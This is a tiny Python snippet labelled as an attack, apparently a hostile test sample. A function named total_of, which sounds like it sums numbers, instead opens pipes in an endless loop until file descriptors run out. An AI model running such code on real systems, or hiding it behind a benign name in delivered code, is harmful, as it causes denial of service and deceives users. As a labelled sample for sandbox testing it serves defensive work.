# attack: opens descriptors for ever
import os

def total_of(numbers):
    while True:
        os.pipe()
